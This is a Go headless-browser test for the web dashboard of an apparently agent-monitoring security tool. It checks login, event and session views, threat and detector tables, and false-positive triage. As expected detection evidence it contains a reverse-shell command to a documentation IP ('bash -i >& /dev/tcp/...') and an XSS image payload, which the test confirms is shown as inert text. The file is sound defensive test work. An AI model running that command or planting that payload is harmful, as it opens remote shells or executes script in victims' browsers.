package observatory_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// findChromium returns the browser to drive, or "" when there is none.
func findChromium() string {
	if p := os.Getenv("PICKET_CHROMIUM"); p != "" {
		return p
	}
	for _, n := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(n); err == nil {
			return p
		}
	}
	return ""
}

func artifactsDir(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("PICKET_ARTIFACTS")
	if dir == "" {
		return t.TempDir()
	}
	dir = filepath.Join(dir, "observatory")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestBrowser loads every page of the Observatory in a real headless
// Chromium against a seeded store, checks the key elements and saves a
// screenshot of each page.
func TestBrowser(t *testing.T) {
	t.Parallel()
	bin := findChromium()
	if bin == "" {
		if os.Getenv("PICKET_REQUIRE_TOOLS") == "1" {
			t.Fatal("chromium not found and PICKET_REQUIRE_TOOLS=1 (apt-get install -y chromium)")
		}
		t.Skip("chromium not found: apt-get install -y chromium (set PICKET_REQUIRE_TOOLS=1 to fail instead)")
	}
	f := newFixture(t, "sqlite")
	arts := artifactsDir(t)

	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(bin),
		chromedp.Headless,
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.NoFirstRun,
		chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("disable-extensions", true),
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(1280, 900),
	}
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	actx, acancel := chromedp.NewExecAllocator(ctx, opts...)
	defer acancel()
	bctx, bcancel := chromedp.NewContext(actx)
	defer bcancel()

	// Start the browser, then collect page errors and CSP violations.
	if err := chromedp.Do(bctx); err != nil {
		t.Fatalf("start chromium: %v", err)
	}
	var mu sync.Mutex
	var problems []string
	messages := chromedp.Console(bctx)
	go func() {
		for m, err := range messages {
			if err != nil {
				return
			}
			if (m.Type == chromedp.ConsoleError || m.IsException()) && !strings.Contains(m.Text, "401") {
				mu.Lock()
				problems = append(problems, m.String())
				mu.Unlock()
			}
		}
	}()

	do := func(step string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		sctx, cancel := context.WithTimeout(bctx, 20*time.Second)
		defer cancel()
		if err := chromedp.Do(sctx, steps...); err != nil {
			// Keep what the page showed, to see why.
			if png, err := chromedp.Run(bctx, chromedp.FullScreenshot(100)); err == nil {
				_ = os.WriteFile(filepath.Join(arts, "failed.png"), png, 0o644)
			}
			html, _ := chromedp.Run(bctx, chromedp.Evaluate[string](`document.body.innerText`))
			t.Fatalf("%s: %v\npage text:\n%s", step, err, html)
		}
	}
	text := func(sel string) string {
		t.Helper()
		return run(t, bctx, "text of "+sel, chromedp.Text(chromedp.CSS(sel)))
	}
	count := func(sel string) int {
		t.Helper()
		return run(t, bctx, "count "+sel, chromedp.Evaluate[int](`document.querySelectorAll(`+jsString(sel)+`).length`))
	}
	shot := func(name string) {
		t.Helper()
		png := run(t, bctx, "screenshot "+name, chromedp.FullScreenshot(100))
		if err := os.WriteFile(filepath.Join(arts, name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	storedKey := func() string {
		t.Helper()
		return run(t, bctx, "session storage", chromedp.Evaluate[string](`sessionStorage.getItem("picket.apiKey") || ""`))
	}
	base := f.srv.URL + "/ui/"

	// Login: a wrong key is refused, the right one lands on the overview.
	do("open", chromedp.Navigate(base), chromedp.WaitVisible(chromedp.ID("api-key")))
	shot("00-login")
	do("wrong key",
		chromedp.SendKeys(chromedp.ID("api-key"), "not-a-key"),
		chromedp.Click(chromedp.ID("login-submit")),
		chromedp.WaitVisible(chromedp.ID("login-error")))
	if msg := text("#login-error"); !strings.Contains(msg, "refused") {
		t.Errorf("wrong key message %q", msg)
	}
	do("login",
		chromedp.Evaluate[chromedp.Void](`document.getElementById("api-key").value = ""`),
		chromedp.SendKeys(chromedp.ID("api-key"), "acme-key"),
		chromedp.Click(chromedp.ID("login-submit")),
		chromedp.WaitVisible(chromedp.CSS("#chart-decisions svg")))
	cards, bars, catCharts, latencyPaths := count("#totals .card"), count("#chart-decisions rect"), count("#category-charts .chart"), count("#chart-latency path")
	totalEvents := text(`#totals [data-key="events"] .n`)
	if n := count(`#recent-events tr[data-event]`); n != 7 {
		t.Errorf("overview lists %d recent events with findings, want 7", n)
	}
	shot("01-overview")
	if cards != 8 || bars < 5 || catCharts != 3 || latencyPaths != 2 || totalEvents != "13" {
		t.Errorf("overview: %d cards, %d bars, %d category charts, %d latency lines, %q events", cards, bars, catCharts, latencyPaths, totalEvents)
	}
	if k := storedKey(); k != "acme-key" {
		t.Errorf("session storage holds %q", k)
	}

	// Events, filtered from the hash and from the toolbar.
	do("events", chromedp.Navigate(base+"#/events?decision=block"), chromedp.WaitVisible(chromedp.CSS(`#events-table tr[data-event]`)))
	if n := count(`#events-table tr[data-event]`); n != 2 {
		t.Errorf("blocked events: %d rows, want 2", n)
	}
	shot("01b-events-blocked")
	do("events would block",
		chromedp.Navigate(base+"#/events"),
		chromedp.WaitVisible(chromedp.CSS(`#events-table tr[data-event]`)),
		chromedp.Click(chromedp.ID("ev-would")),
		chromedp.WaitVisible(chromedp.CSS(`#ev-would:checked`)),
		chromedp.WaitNotPresent(chromedp.CSS(`#events-table tr[data-decision="modify"]`)))
	if n := count(`#events-table tr[data-event]`); n != 5 {
		t.Errorf("would-block events: %d rows, want 5", n)
	}

	// Sessions list.
	do("sessions", chromedp.Navigate(base+"#/sessions"), chromedp.WaitVisible(chromedp.CSS(`#sessions-table tr[data-session]`)))
	rows, sessText := count(`#sessions-table tr[data-session]`), text("#sessions-table")
	shot("02-sessions")
	if rows != 3 || !strings.Contains(sessText, "alice@example.com") || !strings.Contains(sessText, "codex_cli_rs") {
		t.Errorf("sessions: %d rows: %s", rows, sessText)
	}

	// A session's timeline: items, findings (redacted), decisions.
	do("session timeline",
		chromedp.Click(chromedp.CSS(`#sessions-table tr[data-session="acme-sess-claude-alice"] a`)),
		chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
	events, blocks, findings := count("#timeline li.event"), count(`#timeline .badge[data-decision="block"]`), count("#timeline table.findings tbody tr")
	timeline := text("#timeline")
	shot("03-session-timeline")
	if events != 5 || blocks != 2 || findings != 3 || !strings.Contains(timeline, "AKIA************") || !strings.Contains(timeline, "bash -i") {
		t.Errorf("timeline: %d events, %d blocks, %d findings:\n%s", events, blocks, findings, timeline)
	}

	// Evidence: the command shown and its span highlighted, the secret's
	// mask marked, taxonomy ids beside each finding.
	marks, chips := count("#timeline pre.item-text mark"), count("#timeline .taxonomy .tax")
	if marks != 3 || chips < 10 || !strings.Contains(timeline, "T1059.004") || !strings.Contains(timeline, "LLM02:2025") ||
		count(`#timeline code.evidence`) != 2 {
		t.Errorf("evidence: %d marks, %d taxonomy chips, %d evidence cells", marks, chips, count(`#timeline code.evidence`))
	}
	if m := text("#timeline pre.item-text mark.m-command"); m != "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" {
		t.Errorf("highlighted command = %q", m)
	}

	// Content written by an attacker is shown as text, never run.
	do("hostile item text", chromedp.Navigate(base+"#/sessions/acme-sess-codex-bob"), chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
	imgs, timeline := count("#timeline img"), text("#timeline")
	shot("04-session-injection")
	if imgs != 0 || !strings.Contains(timeline, "<img src=x onerror=alert(1)>") || !strings.Contains(timeline, "would block") {
		t.Errorf("hostile text: %d img elements; timeline:\n%s", imgs, timeline)
	}

	// Threats: every category shows.
	do("threats", chromedp.Navigate(base+"#/threats"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-category]`)))
	rows, threatText := count(`#threats-table tr[data-category]`), text("#threats-table")
	shot("05-threats")
	for _, want := range []string{"secrets", "injection", "command", "xoxb************", "Reverse shell"} {
		if !strings.Contains(threatText, want) {
			t.Errorf("threats lack %q", want)
		}
	}
	if rows != 7 {
		t.Errorf("threats: %d rows, want 7 counting findings", rows)
	}
	do("threats filtered", chromedp.Navigate(base+"#/threats?category=command"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-category="command"]`)))
	if rows := count(`#threats-table tr[data-category]`); rows != 3 {
		t.Errorf("command threats: %d rows", rows)
	}

	// Detectors: whatever objects GET /v1/detectors returns.
	do("detectors", chromedp.Navigate(base+"#/detectors"), chromedp.WaitVisible(chromedp.CSS(`#detectors-table tr[data-detector]`)))
	rows, detText := count(`#detectors-table tr[data-detector]`), text("#detectors-table")
	shot("06-detectors")
	if rows != 3 || !strings.Contains(detText, "wasm") || !strings.Contains(detText, "degraded") || !strings.Contains(detText, "2.90 ms") {
		t.Errorf("detectors: %d rows:\n%s", rows, detText)
	}

	// Tools & Agents: block rates and latency per agent and per tool.
	do("usage", chromedp.Navigate(base+"#/usage"), chromedp.WaitVisible(chromedp.CSS(`#agents-table tr[data-name]`)))
	shot("06b-usage")
	if n, usage := count(`#agents-table tr[data-name]`), text("#view"); n != 3 || !strings.Contains(usage, "claude-cli") || !strings.Contains(usage, "Bash") || !strings.Contains(usage, " ms") {
		t.Errorf("usage: %d agents:\n%s", n, usage)
	}

	// Event page, then sign out.
	do("event page", chromedp.Navigate(base+"#/events/"+f.acme.Events[1]), chromedp.WaitVisible(chromedp.CSS("#timeline li.event")))
	shot("07-event")

	// Triage: a false positive, marked by a named operator, answers the
	// allowlist entry to paste; the threats page filters by it.
	do("triage false positive",
		chromedp.SendKeys(chromedp.ID("operator"), "alice@example.com"),
		chromedp.SetValue(chromedp.CSS(`#timeline .triage[data-finding="0"] select`), "false_positive"),
		chromedp.SendKeys(chromedp.CSS(`#timeline .triage[data-finding="0"] .tri-note`), "documented example key"),
		chromedp.Click(chromedp.CSS(`#timeline .triage[data-finding="0"] .tri-mark`)),
		chromedp.WaitVisible(chromedp.CSS(`#timeline pre.allowlist`)))
	if al := text("#timeline pre.allowlist"); !strings.Contains(al, `detector "secrets"`) || !strings.Contains(al, "allow_fingerprints") ||
		!strings.Contains(al, "marked by alice@example.com") || !strings.Contains(al, "documented example key") {
		t.Errorf("allowlist entry:\n%s", al)
	}
	if st := text(`#timeline .triage[data-finding="0"] .tri-state`); st != "false positive" {
		t.Errorf("triage state shown %q", st)
	}
	shot("07b-event-triaged")
	do("threats by triage", chromedp.Navigate(base+"#/threats?triage=false_positive&since=all"), chromedp.WaitVisible(chromedp.CSS(`#threats-table tr[data-triage="false_positive"]`)))
	if rows := count(`#threats-table tr[data-category]`); rows != 1 {
		t.Errorf("false-positive threats: %d rows", rows)
	}
	do("sign out", chromedp.Click(chromedp.ID("logout")), chromedp.WaitVisible(chromedp.ID("api-key")))
	if k := storedKey(); k != "" {
		t.Errorf("key left in session storage after sign out")
	}

	mu.Lock()
	defer mu.Unlock()
	for _, p := range problems {
		t.Errorf("browser: %s", p)
	}
	t.Logf("screenshots in %s", arts)
}

// run runs one chromedp action that returns a value, failing the test on error.
func run[T any](t *testing.T, ctx context.Context, step string, a chromedp.Action[T]) T {
	t.Helper()
	v, err := chromedp.Run(ctx, a)
	if err != nil {
		t.Fatalf("%s: %v", step, err)
	}
	return v
}

func jsString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}
